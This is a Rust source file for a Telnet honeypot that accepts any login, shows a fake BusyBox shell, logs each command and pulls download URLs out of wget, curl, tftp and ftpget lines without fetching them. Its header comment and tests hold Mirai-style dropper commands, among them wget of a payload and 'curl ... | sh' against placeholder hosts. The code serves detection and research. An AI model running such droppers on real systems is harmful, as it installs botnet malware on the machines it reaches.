//! Telnet (23, 2323): login prompts, then a fake BusyBox shell that records every command.
//!
//! Mirai-style botnets log in with default credentials and paste a dropper: `cd /tmp; wget
//! http://x/bins.sh; chmod +x ...`. We let every login "in" (recorded with `success = true`,
//! because the attacker was shown a shell) so the dropper arrives, record each line as a
//! `Command`, and turn every URL a wget/curl/tftp/ftpget line would fetch into a
//! `DownloadOffered` event. Nothing is executed and nothing is fetched.

use crate::config::ServiceSection;
use crate::session::{Session, SessionResult};
use drosera_uplink::event::{Detail, Secret};

/// Default login prompt (what the config's `banner` replaces).
pub const DEFAULT_BANNER: &str = "router login: ";
/// Command lines accepted per session.
const MAX_COMMANDS: usize = 200;

const IAC: u8 = 255;

/// Removes Telnet IAC sequences (commands and subnegotiations) from `input`; bounded by its
/// length. Escaped 0xFF (IAC IAC) becomes one 0xFF byte.
pub fn strip_iac(input: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(input.len());
    let mut i = 0;
    while i < input.len() {
        if input[i] != IAC {
            if input[i] != 0 {
                out.push(input[i]);
            }
            i += 1;
            continue;
        }
        match input.get(i + 1) {
            Some(&IAC) => {
                out.push(IAC);
                i += 2;
            }
            Some(&250) => {
                // SB ... IAC SE
                let end = input[i + 2..].windows(2).position(|w| w == [IAC, 240]).map(|p| i + 2 + p + 2);
                i = end.unwrap_or(input.len());
            }
            Some(251..=254) => i += 3,
            Some(_) => i += 2,
            None => i += 1,
        }
    }
    out
}

/// The URLs a shell line would download, with the tool that would do it.
pub fn extract_downloads(line: &str) -> Vec<(String, String)> {
    let mut out = Vec::new();
    for cmd in line.split([';', '|', '&', '\n']).take(64) {
        let words: Vec<&str> = cmd.split_whitespace().take(64).collect();
        let Some(pos) = words
            .iter()
            .position(|w| matches!(w.rsplit('/').next(), Some("wget" | "curl" | "tftp" | "ftpget" | "busybox")))
        else {
            continue;
        };
        let mut tool = words[pos].rsplit('/').next().unwrap_or("").to_string();
        let mut args = &words[pos + 1..];
        if tool == "busybox" {
            let Some(t) = args.first() else { continue };
            tool = t.to_string();
            args = &args[1..];
        }
        match tool.as_str() {
            "wget" | "curl" => {
                for a in args {
                    if a.contains("://") {
                        out.push((tool.clone(), a.trim_matches(['"', '\'']).to_string()));
                    }
                }
            }
            "tftp" => {
                // tftp -g -r FILE HOST [PORT]
                let file = args.windows(2).find(|w| w[0] == "-r").map(|w| w[1]);
                let host = args.iter().rev().find(|a| !a.starts_with('-') && Some(**a) != file);
                if let (Some(f), Some(h)) = (file, host) {
                    out.push((tool.clone(), format!("tftp://{h}/{f}")));
                }
            }
            "ftpget" => {
                // ftpget [-u U -p P] HOST LOCAL REMOTE
                let plain: Vec<&&str> = args.iter().filter(|a| !a.starts_with('-')).collect();
                if plain.len() >= 3 {
                    let n = plain.len();
                    out.push((tool.clone(), format!("ftp://{}/{}", plain[n - 3], plain[n - 1])));
                }
            }
            _ => {}
        }
    }
    out
}

/// A believable answer for a few recon commands.
fn fake_output(line: &str) -> &'static str {
    let cmd = line.split_whitespace().next().unwrap_or("");
    match cmd {
        "uname" => "Linux router 3.10.14 #1 SMP PREEMPT Mon Feb 12 10:11:32 CST 2024 mips GNU/Linux\r\n",
        "id" | "whoami" => "uid=0(root) gid=0(root)\r\n",
        "busybox" | "/bin/busybox" => "BusyBox v1.24.1 (2024-02-12 10:05:11 CST) multi-call binary.\r\n",
        "cat" if line.contains("cpuinfo") => "system type\t\t: MT7621\r\nmachine\t\t\t: Generic\r\ncpu model\t\t: MIPS 1004Kc V2.15\r\n",
        "ps" => "  PID USER       VSZ STAT COMMAND\r\n    1 root      1536 S    init\r\n  412 root      1240 S    telnetd\r\n",
        "" | "cd" | "echo" | "chmod" | "rm" | "enable" | "system" | "shell" | "sh" => "",
        "wget" | "curl" | "tftp" | "ftpget" => "",
        _ => "sh: command not found\r\n",
    }
}

async fn read_text_line(session: &mut Session) -> SessionResult<String> {
    let raw = session.read_line().await?;
    Ok(String::from_utf8_lossy(&strip_iac(&raw)).trim_end_matches('\r').to_string())
}

pub(crate) async fn handle(session: &mut Session, svc: &ServiceSection) -> SessionResult<()> {
    // WILL ECHO, WILL SUPPRESS-GO-AHEAD, DO NAWS: what a BusyBox telnetd sends.
    session.write_all(&[IAC, 251, 1, IAC, 251, 3, IAC, 253, 31]).await?;
    let banner = svc.banner_or(DEFAULT_BANNER);
    session.write_all(banner.as_bytes()).await?;
    let mut user = read_text_line(session).await?;
    while user.trim().is_empty() {
        session.write_all(banner.as_bytes()).await?;
        user = read_text_line(session).await?;
    }
    session.write_all(b"Password: ").await?;
    let pass = read_text_line(session).await?;
    session.emit(Detail::Login {
        username: user.trim().to_string(),
        secret: Secret::Password(pass),
        success: true,
        extra: vec![("method".into(), "telnet-login".into())],
    });
    session.write_all(b"\r\n\r\nBusyBox v1.24.1 (2024-02-12 10:05:11 CST) built-in shell (ash)\r\n\r\n# ").await?;
    for _ in 0..MAX_COMMANDS {
        let line = read_text_line(session).await?;
        let line = line.trim().to_string();
        if line.is_empty() {
            session.write_all(b"# ").await?;
            continue;
        }
        session.emit(Detail::Command { line: line.clone() });
        for (tool, url) in extract_downloads(&line) {
            session.emit(Detail::DownloadOffered { url, tool });
        }
        if line == "exit" || line == "logout" || line == "quit" {
            return Ok(());
        }
        let mut out = String::new();
        for part in line.split(';') {
            out.push_str(fake_output(part.trim()));
        }
        out.push_str("# ");
        session.write_all(out.as_bytes()).await?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn iac_sequences_are_stripped() {
        assert_eq!(strip_iac(&[IAC, 251, 1, b'r', b'o', IAC, IAC, b't']), vec![b'r', b'o', IAC, b't']);
        assert_eq!(strip_iac(&[IAC, 250, 31, 0, 80, IAC, 240, b'x']), b"x");
        assert_eq!(strip_iac(&[b'a', IAC]), b"a");
    }

    #[test]
    fn downloads_from_droppers() {
        let d = extract_downloads("cd /tmp; wget http://203.0.113.5/bins/x86 -O /tmp/x; chmod +x x");
        assert_eq!(d, vec![("wget".into(), "http://203.0.113.5/bins/x86".into())]);
        let d = extract_downloads("/bin/busybox tftp -g -r mips 198.51.100.7");
        assert_eq!(d, vec![("tftp".into(), "tftp://198.51.100.7/mips".into())]);
        let d = extract_downloads("curl -s 'http://a.example/x.sh' | sh");
        assert_eq!(d, vec![("curl".into(), "http://a.example/x.sh".into())]);
        let d = extract_downloads("ftpget -u a -p b 192.0.2.1 x.bin x.bin");
        assert_eq!(d, vec![("ftpget".into(), "ftp://192.0.2.1/x.bin".into())]);
    }

    #[test]
    fn hostile_input_never_panics() {
        for b in crate::protocols::hostile::random_inputs(0xfeed_f00d_dead_beef, 20_000, 100, false) {
            let s = String::from_utf8_lossy(&strip_iac(&b)).into_owned();
            let _ = extract_downloads(&s);
            let _ = fake_output(&s);
        }
    }
}
